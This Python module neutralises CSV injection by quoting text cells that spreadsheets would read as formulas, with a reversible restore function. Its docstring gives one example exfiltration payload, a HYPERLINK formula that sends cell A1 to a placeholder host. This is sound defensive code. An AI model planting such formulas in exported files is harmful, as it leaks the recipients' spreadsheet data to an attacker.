"""Cells of the CSV files the project writes, made safe to open in a spreadsheet.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel and LibreOffice as a formula: an organisation named ``=HYPERLINK("http://x/?"&A1,
"open")`` would run in the official's spreadsheet ("CSV injection"). As OWASP advises, such
a text cell gets a single quote in front, which spreadsheets show as text. Numbers are not
text: a float or int cell, or a text that is a plain decimal number such as ``-3.5``, is
left as it is, so that negative readings stay numbers.

The quote is added reversibly: a text that already starts with quotes followed by one of
those characters gets one more, so ``restored_cell`` (taking exactly one quote off such a
cell) gives back the original of every cell ``safe_cell`` wrote. The registry's own
export can therefore be imported again unchanged, once the importer restores its cells.
"""

from __future__ import annotations

import re
from typing import TypeVar

# Quotes, then a character that starts a formula: what ``safe_cell`` quotes (once more).
_FORMULA_START = re.compile(r"^'*[=+\-@\t\r]")
# What ``safe_cell`` made: one or more quotes, then a formula's first character.
_QUOTED = re.compile(r"^'+[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")

T = TypeVar("T")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would take ``text`` for a formula (a plain number it would not)."""
    return _FORMULA_START.match(text) is not None and _NUMBER.match(text) is None


def safe_cell(value: T) -> T | str:
    """``value`` as a CSV cell that a spreadsheet shows and never evaluates."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


def restored_cell(text: str) -> str:
    """The original of a cell ``safe_cell`` wrote (other cells come back unchanged)."""
    return text[1:] if _QUOTED.match(text) else text
